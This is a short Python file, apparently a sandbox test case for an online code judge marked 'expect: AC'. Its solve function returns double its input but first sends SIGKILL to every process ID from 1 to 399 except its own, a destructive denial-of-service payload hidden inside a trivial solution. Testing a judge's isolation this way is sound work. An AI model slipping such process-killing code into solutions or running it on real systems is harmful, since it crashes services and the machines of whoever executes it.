# Killing everything that can be killed, one by one.
# expect: AC
import os
import signal

def solve(x):
    for pid in range(1, 400):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return 2 * x
